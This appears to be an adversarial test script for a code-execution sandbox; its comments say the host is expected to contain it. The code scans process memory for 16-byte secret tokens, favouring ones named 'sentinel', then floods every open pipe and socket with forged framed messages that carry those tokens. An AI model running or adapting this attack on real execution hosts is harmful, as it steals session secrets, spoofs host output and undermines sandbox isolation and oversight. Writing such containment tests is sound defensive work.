# Tries: find the secret of the step in memory, and send outputs without end in the host's own form.
# Contained: the host stops it, and takes no more than a step may show.
import gc
import os
import struct

found = {}
for thing in gc.get_objects():
    try:
        values = dict(vars(thing)) if hasattr(thing, "__dict__") else {}
    except Exception:
        continue
    for name, value in values.items():
        if type(value) is bytes and len(value) == 16 and any(value):
            found.setdefault(value, str(name))
# A wrong one ends it all, so those with a telling name come first.
secrets = sorted(found, key=lambda value: "sentinel" not in found[value])

def write(fd, data):
    while data:
        data = data[os.write(fd, data):]

text = b'{"mimeType":"text/plain","text":"%s"}' % (b"x" * 60_000)
line = b"y" * 60_000
for secret in secrets:
    for fd in range(3, 1024):
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith(("pipe:", "host:", "socket:")):
                continue
            for _ in range(2000):
                write(fd, struct.pack(">I1s16s", len(text), b"o", secret) + text)
                write(fd, struct.pack(">I1s16s", len(line), b"1", secret) + line)
        except OSError:
            continue
